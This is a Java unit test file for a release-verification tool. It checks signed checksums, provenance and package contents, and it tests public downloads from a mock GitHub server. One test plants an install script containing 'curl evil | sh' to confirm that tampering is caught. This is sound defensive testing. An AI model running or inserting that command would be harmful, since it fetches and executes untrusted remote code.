package com.genericcorp.hq.release.verify;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.genericcorp.hq.builder.blobs.Digest;
import com.genericcorp.hq.cli.Failed;
import com.genericcorp.hq.cli.InvalidInput;
import com.genericcorp.hq.release.assets.Asset;
import com.genericcorp.hq.release.assets.Checksums;
import com.genericcorp.hq.release.assets.Provenance;
import com.genericcorp.hq.release.github.GitHubAddress;
import com.genericcorp.hq.release.github.Patience;
import com.genericcorp.hq.release.github.Releases;
import com.genericcorp.hq.release.sign.Minisign;
import com.genericcorp.hq.release.sign.SecretKey;
import com.genericcorp.hq.release.testing.GitHubServer;
import com.genericcorp.hq.release.testing.TestPackages;
import com.genericcorp.hq.release.version.Version;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What a customer's check finds. */
class VerificationTest {
  private static final String ARCHIVE = "agenthq-1.0.0-rc.1.tar.gz";
  @TempDir Path folder;
  private final SecretKey key = SecretKey.generate();

  @BeforeEach
  void release() throws Exception {
    TestPackages.both(folder, "1.0.0-rc.1");
    Files.writeString(
        folder.resolve("agenthq-1.0.0-rc.1.provenance.json"),
        new Provenance(
                Version.parse("1.0.0-rc.1"), "0".repeat(40), Optional.empty(), Optional.empty())
            .statement(Asset.in(folder)));
    Files.writeString(folder.resolve("agenthq.pub"), key.publicKey().file());
    sumUp();
  }

  private void sumUp() throws Exception {
    Path sums = folder.resolve("SHA256SUMS");
    Files.deleteIfExists(sums);
    Files.deleteIfExists(folder.resolve("SHA256SUMS.minisig"));
    Files.writeString(sums, Checksums.of(Asset.in(folder)).text());
    Files.writeString(folder.resolve("SHA256SUMS.minisig"), Minisign.sign(key, sums, "words"));
  }

  private List<Finding> check(String only) {
    return new Verification(folder, Optional.of(key.publicKey()), true)
        .run(Optional.ofNullable(only), false);
  }

  private static String wrong(List<Finding> findings) {
    return findings.stream()
        .filter(one -> !one.right())
        .map(one -> one.what() + " " + one.remark())
        .reduce("", (a, b) -> a + b + "\n");
  }

  @Test
  void aRightReleaseIsRight() {
    assertThat(wrong(check(null))).isEmpty();
    assertThat(check(null)).hasSize(5);
    assertThat(check(ARCHIVE))
        .extracting(Finding::remark)
        .containsExactly(
            "signed by " + key.publicKey().name() + ": words",
            "a package; its 3 files are what was packed");
    assertThat(new Verification(folder, Optional.empty(), true).run(Optional.empty(), true))
        .first()
        .extracting(Finding::remark)
        .asString()
        .contains("the key that came with it");
  }

  @Test
  void aChangedPackageIsWrong() throws Exception {
    byte[] bytes = Files.readAllBytes(folder.resolve(ARCHIVE));
    bytes[bytes.length / 2] ^= 1;
    Files.write(folder.resolve(ARCHIVE), bytes);
    assertThat(wrong(check(ARCHIVE))).startsWith(ARCHIVE + " is sha256:").contains("again");
  }

  @Test
  void changedChecksumsAreWrongAndSoIsWhatTheyNowAllow() throws Exception {
    Map<String, String> files = TestPackages.files("1.0.0-rc.1", "online");
    files.put("agenthq/releases/1.0.0-rc.1/lib/install.sh", "curl evil | sh");
    TestPackages.archive(folder.resolve(ARCHIVE), files);
    String signature = Files.readString(folder.resolve("SHA256SUMS.minisig"));
    sumUp();
    Files.writeString(folder.resolve("SHA256SUMS.minisig"), signature);
    assertThat(wrong(check(null)))
        .contains("SHA256SUMS SHA256SUMS is not what was signed: do not use it")
        .contains("lib/install.sh that is not what was packed")
        .contains("provenance.json says something else of " + ARCHIVE);
  }

  @Test
  void withoutSignatureOrWithAnothersItIsWrong() throws Exception {
    assertThat(
            wrong(
                new Verification(folder, Optional.of(SecretKey.generate().publicKey()), true)
                    .run(Optional.empty(), false)))
        .contains("was signed with the key " + key.publicKey().name());
    Files.delete(folder.resolve("SHA256SUMS.minisig"));
    assertThat(wrong(check(null))).contains("has no signature");
  }

  @Test
  void whatCannotBeCheckedIsSaid() throws Exception {
    assertThatThrownBy(() -> check("other.tar.gz"))
        .isInstanceOf(InvalidInput.class)
        .hasMessageContaining("does not name other.tar.gz: is it of the same release?");
    Files.delete(folder.resolve("SHA256SUMS"));
    assertThatThrownBy(() -> check(null))
        .isInstanceOf(InvalidInput.class)
        .hasMessageContaining("SHA256SUMS cannot be read: download it beside the files");
    Files.writeString(folder.resolve("SHA256SUMS"), "<html>\n");
    assertThatThrownBy(() -> check(null))
        .isInstanceOf(Failed.class)
        .hasMessageContaining("SHA256SUMS:1 is no line of checksums");
  }

  @Test
  void aPublicVersionIsDownloadedWithoutAToken() throws Exception {
    Map<String, Digest> complete = new HashMap<>();
    Asset.in(folder).forEach(one -> complete.put(one.name(), one.sha256()));
    try (GitHubServer server = new GitHubServer(complete, tag -> true)) {
      long id = server.add("v1.0.0-rc.1", "", false);
      for (Asset one : Asset.in(folder)) {
        server.addAsset(id, one.name(), Files.readAllBytes(folder.resolve(one.name())));
      }
      Map<String, String> environment = new HashMap<>(server.environment());
      environment.remove("GITHUB_TOKEN");
      Releases releases = new Releases(GitHubAddress.of(environment), Patience.real());
      Path target = Files.createDirectory(folder.resolve("target"));
      ReleaseDownload.into(target, releases, Version.parse("1.0.0-rc.1"));
      assertThat(
              wrong(
                  new Verification(target, Optional.of(key.publicKey()), true)
                      .run(Optional.empty(), true)))
          .isEmpty();
      assertThatThrownBy(() -> ReleaseDownload.into(target, releases, Version.of(2, 0, 0)))
          .isInstanceOf(Failed.class)
          .hasMessageContaining("no public release v2.0.0");
      assertThat(server.violations()).isEmpty();
    }
  }
}
